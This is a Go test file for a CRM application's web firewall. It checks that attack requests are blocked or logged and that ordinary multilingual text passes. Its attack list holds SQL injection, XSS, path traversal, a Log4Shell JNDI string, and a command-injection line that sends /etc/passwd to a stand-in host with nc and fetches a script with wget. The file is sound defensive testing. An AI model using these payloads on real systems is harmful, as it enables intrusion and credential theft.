package firewall_test

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"kontor/internal/kit/firewall"
)

type tried struct{ method, path, kind, body string }

func (c tried) send(t *testing.T, h http.Handler) *httptest.ResponseRecorder {
	t.Helper()
	r := httptest.NewRequestWithContext(t.Context(), c.method, c.path, strings.NewReader(c.body))
	r.Host = "crm.example.com"
	r.Header.Set("User-Agent", "Mozilla/5.0")
	r.Header.Set("Accept", "text/html")
	if c.kind != "" {
		r.Header.Set("Content-Type", c.kind)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w
}

const form, asJSON = "application/x-www-form-urlencoded", "application/json"

// walled echoes the bodies of requests that pass.
func walled(t *testing.T, block bool, events *[]firewall.Event) http.Handler {
	t.Helper()
	f, err := firewall.New(block, func(_ context.Context, e firewall.Event) { *events = append(*events, e) })
	if err != nil {
		t.Fatal(err)
	}
	return f.With(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusForbidden) },
		http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.Copy(w, r.Body) }))
}

func attacks() []tried {
	get := func(q string) tried { return tried{"GET", "/contacts?name=" + url.QueryEscape(q), "", ""} }
	return []tried{
		get("' OR '1'='1' UNION SELECT password_hash, 1 FROM users -- "), get("1; DROP TABLE contacts; --' or 1=1"), get(`<script>alert(document.cookie)</script><img src=x onerror=alert(1)>`),
		{"GET", "/assets/..%2f..%2f..%2f..%2fetc%2fpasswd?file=../../../../etc/passwd", "", ""}, get("; cat /etc/passwd | nc evil.example 4444; wget http://evil.example/x.sh"), get("${jndi:ldap://evil.example/a}"),
		{"POST", "/login", form, "email=" + url.QueryEscape("' UNION SELECT * FROM users --") + "&password=x"}, {"POST", "/register", form, "workspace=" + url.QueryEscape("<script>alert(1)</script>") + "&email=a@b.example"},
		{"POST", "/api/v1/contacts", asJSON, `{"first_name":"' UNION SELECT password_hash FROM users WHERE '1'='1' -- "}`},
	}
}

func TestFirewall_StopsAttacks(t *testing.T) {
	var events []firewall.Event
	h := walled(t, true, &events)
	for _, c := range attacks() {
		before := len(events)
		if got := c.send(t, h).Code; got != http.StatusForbidden || len(events) != before+1 || !events[before].Blocked || events[before].Text() == "" {
			t.Errorf("%s %s %s: %d, %v", c.method, c.path, c.body, got, events[before:])
		}
	}
}

func TestFirewall_OnlyWatchesWhereItIsTold(t *testing.T) {
	var events []firewall.Event
	h := walled(t, false, &events)
	for _, c := range attacks() {
		before := len(events)
		if w := c.send(t, h); w.Code != http.StatusOK || w.Body.String() != c.body || len(events) != before+1 || events[before].Blocked {
			t.Errorf("%s %s: %d %q, %v", c.method, c.path, w.Code, w.Body, events[before:])
		}
	}
}

func TestFirewall_LetsWorkThrough(t *testing.T) {
	texts := []string{
		"Иван Петров се обади: иска оферта за 3 бр. сензори до петък; плащане 50% аванс.", "Please select the best offer from our list and drop the table at the office; union meeting where 1 = 1 or so.",
		"<p>Hello <b>Anna</b>, <a href=\"https://example.com/?a=1&b=2\">the offer</a></p>", "# Heading\n\n- [x] done\n\n```sql\nSELECT * FROM contacts WHERE name = 'x' OR 1=1;\n```", "rm -rf / is what he typed; cat /etc/passwd too",
		"{{client_name}}, {{#lines}}{{name}}{{/lines}}", "O'Brien & Sons -- \"the best\"", "=1+1", "C:\\Users\\anna\\..\\x", "🏴‍☠️ emoji, ß, İ, ﬃ", strings.Repeat("дълъг текст ", 3000),
	}
	var events []firewall.Event
	h := walled(t, true, &events)
	pass := func(c tried) {
		t.Helper()
		if w := c.send(t, h); w.Code != http.StatusOK || w.Body.String() != c.body {
			t.Errorf("%s %.80s %.120s: %d, %v", c.method, c.path, c.body, w.Code, events)
		}
		events = nil
	}
	for _, text := range texts {
		pass(tried{"POST", "/contacts/1/notes", form, url.Values{"body": {text}}.Encode()})
		pass(tried{"PATCH", "/contacts/1", form, url.Values{"field": {"notes"}, "value": {text}, "was": {text}}.Encode()})
		pass(tried{"GET", "/search?q=" + url.QueryEscape(text[:min(len(text), 200)]), "", ""})
		pass(tried{"POST", "/login", form, url.Values{"email": {"anna@x.example"}, "password": {text}}.Encode()})
	}
	for _, name := range []string{"O'Brien & Sons", "Иван", "Union Select Ltd", "D'Angelo -- Пекарна \"Роза\"", "<Anna>", "Петров и син ООД (клон София)", "AT&T; Inc.", "C# / .NET разработка"} {
		pass(tried{"POST", "/contacts/new", form, url.Values{"first_name": {name}, "city": {name}, "email": {"a@b.example"}, "website": {"https://example.com/a?b=c#d"}}.Encode()})
		pass(tried{"POST", "/api/v1/contacts", asJSON, `{"first_name":"` + strings.NewReplacer(`"`, `\"`, `\`, `\\`).Replace(name) + `","custom":{"x_size":"` + "SELECT" + `"}}`})
		pass(tried{"GET", "/contacts?name=" + url.QueryEscape(name) + "&filter=" + url.QueryEscape("any(name:a,all(city:София,created_at:last.30d))") + "&sort=-created_at", "", ""})
	}
	pass(tried{"POST", "/api/v1/notes", asJSON, `{"body":"` + strings.Repeat("дълъг ", 20_000) + `"}`})
	for _, c := range []tried{
		{"PROPFIND", "/dav/calendars/anna/", "application/xml", `<?xml version="1.0"?><propfind xmlns="DAV:"><allprop/></propfind>`}, {"PUT", "/dav/contacts/1.vcf", "text/vcard", "BEGIN:VCARD\r\nFN:Иван\r\nEND:VCARD\r\n"},
		{"POST", "/api/v1/imports?name=a.csv", "text/csv", "Име;Телефон\n<script>;'; DROP TABLE x\n"}, {"DELETE", "/api/v1/contacts/1", "", ""}, {"POST", "/import", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\n' or 1=1\r\n--b--\r\n"},
		{"POST", "/csp-report", "application/csp-report", `{"csp-report":{"blocked-uri":"inline"}}`}, {"GET", "/health/", "", ""}, {"GET", "/calendar/feed/abc_DEF-123", "", ""}, {"POST", "/api/v1/notes", asJSON, `{"body":"<script>alert(1)</script> ' OR 1=1 --"}`},
	} {
		pass(c)
	}
}
